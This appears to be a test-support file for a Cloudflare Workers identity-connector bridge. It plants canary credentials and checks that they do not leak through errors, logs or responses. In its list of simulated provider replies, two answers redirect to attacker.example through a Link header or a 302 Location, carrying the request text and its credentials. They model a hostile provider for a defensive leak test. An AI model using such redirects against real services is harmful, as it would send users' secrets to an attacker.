import { runDurableObjectAlarm, runInDurableObject } from "cloudflare:test";
import { env } from "cloudflare:workers";
import { ConnectorBridge } from "#bridge/durable-object.ts";
import { toolsOf } from "#bridge/worker-tools.ts";
import { START } from "#test/support/bridge/world.ts";
import { serviceKey } from "#test/support/fake-directory/service-key.ts";
import type { Canaries } from "./canaries.ts";
import type { Planting } from "./planting.ts";

/** A source and its credentials, with the secret among them. */
interface Planted {
  readonly secret: string;
  readonly body: Readonly<Record<string, unknown>> & { readonly credentials: object };
}

/** Sets up a bridge of each kind with secrets, replaces them, and lets runs fail in every way. */
export async function plantProviderCredentials(planting: Planting): Promise<void> {
  for (const planted of await bridges(planting.canaries)) await plantOne(planting, planted);
}

async function plantOne(planting: Planting, { secret, body }: Planted): Promise<void> {
  const { admin, failing } = planting;
  const path = `/connectors/${await planting.connector()}/bridge`;
  const put = { method: "PUT", body };
  const world = openRunContext(planting);
  for (const bad of refusedOnes(body, secret)) await admin(path, { method: "PUT", body: bad });
  await failing(secret, path, put);
  for (const sent of [put, put]) await admin(path, sent);
  for (const call of [path, `${path}/runs`]) await failing(secret, call);
  const { body: view } = await admin(path);
  if (view.credentialsKind === undefined) throw new Error(`It was not set up: ${view.detail}`);
  for (const echo of ECHOES) {
    world.answer(echo);
    await admin(`${path}/enable`, { method: "POST" });
    await admin(`${path}/sync`, { body: { mode: "full" } });
    await admin(`${path}/sync-user`, { body: { key: "ada@example.com" } });
    await world.ring(path.split("/")[2] ?? "");
  }
  for (const call of ["", "/runs"]) await admin(`${path}${call}`);
  await admin(`${path.slice(0, path.lastIndexOf("/"))}/held`);
}

/** Bodies that are refused, each with the secret in a place where it is not looked for. */
function refusedOnes(body: Planted["body"], secret: string): readonly unknown[] {
  const { credentials } = body;
  return [
    { ...body, credentials: { ...credentials, extra: secret } },
    { ...body, credentials: secret },
    { ...body, intervalSeconds: 1 },
    { ...body, intervalSeconds: secret },
    { ...body, source: { type: secret } },
    { ...body, source: { type: "scim", baseUrl: `https://user:${secret}@a.com` } },
    { ...body, source: { type: "scim", baseUrl: `https://a.com/?token=${secret}` } },
    JSON.stringify(body).slice(0, -1),
    ...unusableKeys(secret).map((credentials) => ({ ...body, source: GOOGLE, credentials })),
  ];
}

const GOOGLE = { type: "google", adminEmail: "admin@example.com" };

/** Keys of Google's that look like some, and cannot be read. */
function unusableKeys(secret: string): readonly object[] {
  const clientEmail = "b@p.iam.gserviceaccount.com";
  const privateKey = `-----BEGIN PRIVATE KEY-----\n${secret}\n-----END PRIVATE KEY-----\n`;
  const keyFile = { type: "service_account", client_email: clientEmail, private_key: privateKey };
  return [
    { clientEmail, privateKey },
    keyFile,
    { keyFile },
    { keyFile: JSON.stringify(keyFile) },
    { keyFile: JSON.stringify(keyFile).slice(0, -1) },
  ];
}

async function bridges(canaries: Canaries): Promise<readonly Planted[]> {
  const [token, entra, onelogin, apiKey, scim] = Array.from({ length: 5 }, () =>
    canaries.make("provider credentials"),
  );
  const { privateKeyJwk, privateKeyPem } = await serviceKey();
  const d = canaries.add("provider credentials", privateKeyJwk.d ?? "");
  const [, line = ""] = privateKeyPem.split("\n");
  canaries.add("provider credentials", line);
  const of = (source: object, credentials: object, secret = "") => ({
    ...{ secret, body: { source, credentials } },
  });
  const okta = { type: "okta", baseUrl: "https://acme.okta.com" };
  const clientEmail = "b@p.iam.gserviceaccount.com";
  const [clientId, tenantId] = ["client", "acme.onmicrosoft.com"];
  const host = "https://directory.example";
  return [
    of(okta, { apiToken: token }, token),
    of(okta, { clientId, privateKeyJwk }, d),
    of({ type: "entra", tenantId }, { clientId, clientSecret: entra }, entra),
    of(GOOGLE, { clientEmail, privateKey: privateKeyPem }, line),
    of(
      GOOGLE,
      {
        keyFile: { type: "service_account", client_email: clientEmail, private_key: privateKeyPem },
      },
      line,
    ),
    of({ type: "onelogin", baseUrl: host }, { clientId, clientSecret: onelogin }, onelogin),
    of({ type: "jumpcloud", baseUrl: host }, { apiKey }, apiKey),
    of({ type: "scim", baseUrl: `${host}/scim` }, { token: scim }, scim),
  ];
}

/** What a provider does with all that it was told, credentials included. */
type Echo = (told: string) => Response;

const ECHOES: readonly Echo[] = [
  ...[400, 401, 403, 404, 429, 500, 503].map(
    (status): Echo =>
      (told) =>
        Response.json(errorOf(told), { status, headers: { "Retry-After": "1" } }),
  ),
  (told) => new Response(`<title>${told}</title>`, { headers: { "Content-Type": "text/html" } }),
  (told) => Response.json({ [told]: told }),
  (told) => Response.json([told]),
  (told) => {
    const link = `<https://attacker.example/?x=${encodeURIComponent(told)}>; rel="next"`;
    return Response.json([], { headers: { Link: link } });
  },
  (told) => {
    const Location = `https://attacker.example/?x=${encodeURIComponent(told)}`;
    return new Response(null, { status: 302, headers: { Location } });
  },
  (told) => {
    throw new TypeError(`fetch failed: ${told}`, { cause: new Error(told) });
  },
];

/** An error in the words of every provider. */
function errorOf(told: string): object {
  return {
    ...{
      errorCode: told,
      errorSummary: told,
      error_description: told,
      detail: told,
      message: told,
    },
    error: { code: told, message: told, errors: [{ reason: told, message: told }] },
  };
}

/** The world of the bridges' objects: providers that echo, and a far year, so that no alarm fires by itself. */
function openRunContext({ canaries, told }: Planting) {
  const accessToken = canaries.make("access token");
  let now = START;
  let echo: Echo = () => Response.json([]);
  ConnectorBridge.tools = () => ({
    ...toolsOf(env),
    clock: { now: () => now, sleep: async () => undefined, random: () => 0.5 },
    fetch: async (url, init) => {
      const text = textOf(url, init);
      told.push(text);
      return answerOf(accessToken, url, () => echo(text));
    },
    wakeWebhook: async () => undefined,
  });
  const answer = (next: Echo) => {
    echo = next;
  };
  /** Fires alarms until the run under way has ended, or waits for longer than a page that cannot be read. */
  const ring = async (connectorId: string) => {
    const stub = env.BRIDGE.getByName(connectorId);
    for (let fired = 0; fired < 6; fired += 1) {
      if ((await stub.overview()).state !== "syncing") return;
      const at = await runInDurableObject(stub, (_, { storage }) => storage.getAlarm());
      now = Math.max(now, at ?? now);
      await runDurableObjectAlarm(stub);
    }
  };
  return { answer, ring };
}

/** Token endpoints are tried both ways: three calls of four are granted, so that tokens get around too. */
let tokenCalls = 0;

function answerOf(accessToken: string, url: string, echoed: () => Response): Response {
  if (!/token$/.test(new URL(url).pathname)) return echoed();
  tokenCalls += 1;
  if (tokenCalls % 4 === 0) return echoed();
  return Response.json({ access_token: accessToken, token_type: "Bearer", expires_in: 3_600 });
}

/** All that a request says. */
function textOf(url: string, init: RequestInit): string {
  const body = decodeURIComponent(String(init.body ?? "").replaceAll("+", " "));
  return JSON.stringify([url, [...new Headers(init.headers)], body]);
}
